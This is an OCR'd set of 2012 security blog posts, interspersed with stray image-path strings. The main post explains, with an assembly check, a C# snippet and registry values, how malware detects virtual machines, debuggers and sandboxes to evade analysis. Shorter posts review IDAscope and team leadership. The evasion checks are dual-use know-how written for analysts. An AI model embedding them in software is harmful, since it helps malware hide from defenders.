Thursday, November 8, 2012

How Malware survives to Malware detection mechanisms

Today I'd like to share some basic techniques that Malware(s) use to protect themselves from being detected. Some of the most used approaches to detect Maware could be described as follows:
  1.  Virtualize the environment in where Malware(s) run.
  2.  Attach a debugger to Malware processes and
  3.  Sandbox the execution of the analyzed Malware.
 It comes straight forward that Malware writers need new techniques to detect the detectors :D. In other words they need tools to figure out if the Malware is being analyzed or not. There are tons of ways to perform these checks, here I just want to sketch same of them for future researches.

Detecting Virtual Machines.
Virtual environments have virtual devices such as virtual interfaces, virtual hard dirves and virtual graphics. Malware(s) by using a widly known techniques against "Malware" (ie. the signature checking technique) can detect the environement where they are running.
For example, a network interface for VMware Workstation has a MAC address starting with 00:50:56: or 00:0C:29. A wise Malware could decide how to behave depending on its environment. For example if it runs on a virtual environment it might decide to not perform malicious actions on the other handif it runs on a real environment it might decide to perform malicious actions. Another used technique to understand the presence of a VM is to check for GUIDs. For example:

MD5: 0151c5afde070a7b194f492d26e9b3ef (Trojan.Agent-124243 by ClamAV).

The previous picture represents the function checking for  the presence of:  HKEY_LOCAL_MACHINE\Software\Microsoft\Windows\CurrentVersion\ProductId 76487-644-3177037-23510. The presence of such a key proves the CWSandbox environment is running on the host platform. Or again, the Malware(s) could check for specific Hard Drives, Video Drivers and even Mouse Drivers. Some classical examples  follow:

 Hard drive driver (VMware):

HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Enum\IDE\DiskVMware_Virtual_IDE_Hard_Drive___00000001\3030303030303030303030303030303030303130\FriendlyName VMware Virtual IDE Hard Drive

Video driver (VMware):

HKEY_LOCAL_MACHINE\System\CurrentControlSet\Control\Class\{4D36E968-E325-11CE-BFC1-08002BE10318}\0000\DriverDesc VMware SVGA II

Mouse driver (VMware):


Detecting hardware signatures is not the only solution for malware writers, there are many other differences between Virtual Environments and Real Environments. One of the biggest is the inconsistency of "Table Registers". We have only one Interrupt Descriptor Table Register (IDTR), one Global Descriptor Table Register (GDTR) and onlyone Local Descriptor Table Register (LDTR) for each processor on the platform. But since in a virtual environment we have at least two operation systems running symultaneosly, the virtual machine needs to dynamically adjust each "Table Registers" in order to avoid conflicts. The process creates inconsistency between the native "Table Registers" and the virtual ones. A Malware can detect these inconsistencies by using assembly level instructions to read those values. SIDT, SGDT and SLDT might been used to read the original values of "Table Registers".  The following is an example of such a difference.

MD5: b27d73bfcbaec49a95f23b45e9cf9310 (W32.Virut-54 by ClamAV)

The IDT is at:
0x80ffffff in Windows
0xe8XXXXXX in Virtual PC
0xffXXXXXX in VMware

Again, this is not all the malware writers have. Some Virtual machines, such as VMware use backdoors as a communication media between the hosting machine and virtual machines. For example port 0x5658 (ASCII:"VX") is used in VMware virtual environments. Malware might be able to detect the name of the communication port and behave on consequence.

Detecting Debuggers.
Debugging is not per-se a virtualization, however this technique is widely used by reverse engineers in order to understand what the process is doing. Virtualizaion is the first and easiest way to perform Malware Analysis since you get the results out ofthe box by simply running the executable. Debugging is way more complicated but you have a deep understanding ofwhat the process does in the host machine. Detecting debuggers is another important techniques that Malware writers have to consider during the Malware creation. The following code (taken from here) shows a simple function checking for the presence of an attached debugger on Windows machine.

The above funciton checks the presence of an atacched debugger by asking to IsDebuggerPresent from kernel32.dll. The next function looks for files such as: SyserDbgMsg, SyserBoot and SICE, NTICE. Those files holds the informations, and the history of a debugged process (taken from here).

Another way to detect debuggers is the NtGlobalFlags check:

mov eax, dword ptr [fs:30h]
add eax, 68h
mov eax, dword ptr [ds:eax]
cmp eax, 70h

if the value in %eax register is equals to 70h, a debugger is attachecd to the process. If the process is not debugged the value of the flag is null (there is no such a flag). If you are implementing this check, remember null pointer exceptions...

Another way to detect Debuggers is throught timing out. Debuggers can put break points in the code, and can therefore stop program execution. A program can detect this, by monitoring the system clock. If too much time has elapsed between instructions, it can be determined that the program is being stopped and analyzed.

These techniques are only some of the numerous techniques that Malware writers might use. If you'd like to check them visit the OpenRCE dedicated page here.

Sanbox Environments.
A sandbox is a tightly secured environment where the analyst can run and analyze the behavior of a given application.  It's quite useful since once the execution (of the selectede software) ends everything is automatically restored to the previous state in which themachine was before the run. Being able to restore a "previous state" of an entire OS means to be able to record everything the software does. For such a reason sandbox environemtns are so usefull to analyze M0alware(s).

So usefull but so predictables as well. Pretty much each sandbox has an unique way to be detected. Anubis for example can be recognized based on its product ID (whichhappens to be: 76487-337-8429955-22614) located at HKMLSoftwareMicrosoftWindows NTCurrentVersion. Following a code snipped able to detect Anubis sandBox (via aspfree):

private static bool AntiAnubis2() {

RegistryKey regProductID = Registry.LocalMachine.OpenSubKey("SOFTWAREMicrosoftWindows"
                           +"NTCurrentVersion", false);
object pid = regProductID.GetValue("ProductId");
string id = "76487-337-8429955-22614";
if ((string) pid == id)
  return true;

return false;Using the same code is possible to detect JoeBox and CWSandbox as well (just checking for 55274-640-2673064-23950 and 76487-644-3177037-23510 registry keys). Sandboxie and ThreatExpert  do not use fixed Registry keys as the previous sanbox solutions do, so it is not possible to detect them using the aforementioned code. However they do load specific DLLs in the sandboxed environment in order to control the executed software. So why not just checking for such DLLs ? sbiedll.dll and dbghelp.dll are respectively the two used DLLs.

More ways to evade current security solutions are out there, in this post I summed up some of the most used and some of the most implemented techniques. If you are doing reverse engineering please keep in mind thatthings are becoming complex since malware writers use those techniques quite frequently. Don't stop your analysis on a sandbox, don't run the suspected malware only in virtual environments and keep in mind debugger-traps whle you are using your favorite debugger.

Thursday, October 25, 2012IDAscope a great SwissKnife for reversers

Hi Folks,
today I'd like to introduce a great tool made by Daniel Plohmann and Alexander Hanel from University of Bonn and Fraunhofer FKIE called IDAscope. IDAscope is an IDAPro extension for easier (malware) reverse engineering: it offers three main functionalities:
From Hacklu slides (click to make it bigger).

  1. Function Inspection. This function implements the ability to tag specific series of called API. The tracked API could be selected and modified into a specific config file (config.json). IDAscope will alert you when specific API patterns will occur. The function inspection functionality enables another super feature called: basic bloc coloring. Having colored blocks in IDAPro is really useful to quick understand what is the purpose of the analyzed pieace of code. What it's common to do, right now, is to collapse blocks by giving high level names. IDAscope offers the possibility toautomatically coloring blocks making you way more efficient in recognize useless blocks. Code to Function convertion and automatic rename of wrapper functions are additional usefull functionalities as well.
  2. WinAPI Browsing. Obviously for windows reversers is incredibly useful having Windows API reference manual. Here, by using IDAscope the API reference is next to your eyes for quick and smart lookup. The following image shows both: Blocks Coloring and WinAPI browsing.
  3. From Haclu slides (click to make it bigger).
  4. Crypto Identification. Maybe the most useufl functionality to all the reversers that are used to struggle with multiple tools to figure out what encryption algorithm has been used on the code. IDAscope detects the used algorithm basing its analysis on the ratio of arithmetic / logic instructions to all instructions in a basic block. More details on how it works here (by Juan Caballero).
For sure a great tool helping out reverse engineers and a great example to everybody who isgoing to finish his/her PhD on how to "pack" all (or most of) the reseaches done in the past years.

A personal suggestion to push the project to the next step.
What about improving the tagging function to reach out the "behavior analisys" ? You already have implemented some of the basic functions to be able to understand the behavior of the analyzed binary; for instance you already have implemented the lookup function and the tagging function.  What about shipping out the extension within configuration files representing some of the most used malicious behaviors ? There are tons of researches on this field that can be easily implemented in your estension with relatively few effort.

Wednesday, September 26, 2012

Leading a security team

Today I want to start from this sentence written by Frederick P. Brooks, JR. The Mithical Man-Month:

Software systems are perhaps the most intricate and complex (in terms of number of distinct kinds of parts) of the things humanity makes

Being the most complex systems the man can build, software systems are addicted to numerous mistakes either conceptually either technicals. Each mistake hides a bug, and some specific bugs ( the one that could affect the normal security model of the designed system) could become a vulnerability. This is the "why" we still find and we will find vulnerabilities in softwares ... This is the "why" we will need security experts to handle crisis generated by such a vulnerabilities. In this post I'd like to review some of the basic concepts of "team leadership processes" and apply them into red teaming. This is not going to be an exhaustive review of the most used leading concepts but rather a different point of view (from a security perspective) in classic team leadership patterns.

  1. The craft of "securing". Even if many people can argue that securityis becoming a science, I do believe we still are in the "craft" time frame. We can't say it is an Art, because we have methodologies, guideline, policies, and even designed patterns. We can't say it's science, since we can't reproduce the same results (aka the same security level) in every environment. We still have no idea on how to measure "security"! So it is correct to call the "security discipline" a craft. If it is a craft we won't be able to predict the precise cost of "securing" a system. We won't be able to know how many 'penetration testing hours' are needed to secure a whole system, we need experience to be able to give an accurate estimation.
  2. The joy of understanding. While Frederick P. Brooks in his famous book pointed out that the "craft of programming" gratifies developers because they are making things, we cannot say the same for security engineers. We had not the joy of making things.. Developers make things, we broke things for testing their security properties. So what is the spirit of a security engineer? The joy of understanding how things are done. A great security engineer is the one who loves to disassemble, to learn, to discover how other people did such a thing. Thenecessity in understanding, in learning, in disassembly things take the security engineer in a position to know what is strong and what is not. After some experience the security engineer is the one able to compare two different systems and to judge their models and their designs with respect to security features.
  3. Good cooking takes time... Security process such as the penetration testing process needs time, it cannot be hurried without spoiling the result.
  4. Partitioning a task among multiple engineers occasions extra communication effort, that it doesn't come for free. Partitioning is often a great solution but is not always the best solution. Adding people at the end of a penetration testing process will take to this process much more time respect of having no additional engineers. If you are in rush don't addmore people. People need to be trained and they need communication with current engineers to catch up the whole contest before being able to produce actively to the process. Take people into penetration testing at the beginning of the process, never at the end of it, you will not finish the process on time.
  5. The perfect team. A chief-security engineer, a surgical-team made from a small amount of talents offers a way to get the process integrity of few minds and the total productivity of many helpers, with radically reduced communication.
  6. Find the most valuable vulnerability. Finding the most valuable vulnerability often correspond to attack the conceptual integrity of the system. Understand how the system works, and firstly focus on the conceptual integrity of the system and later on technical aspects.
  7. Communication between team members. Definitely the most important task a team manager have to guarantee. Communication. Thanks to communication people have new ideas, find solutions and find the way after having lost it.
  8. Organization and role definition. A good organization and a good role definition is fundamental to coordinate talents and often "big egos".
  9. Plan to throw one away. According to Frederick P. Brooks, JR. In The Mithical Man-Month, there is always a wrong way that eventually you and your team will take, you will, anyhow. Plan to throw it away, and start from the previous state. Don't loose time in tying to recovery a test, don't lose time to try to convert a specific designed tool to fit another bug, don't try to reuse a reverse engineering status from the previous code revision. Find the power to admit the failure and start it again.
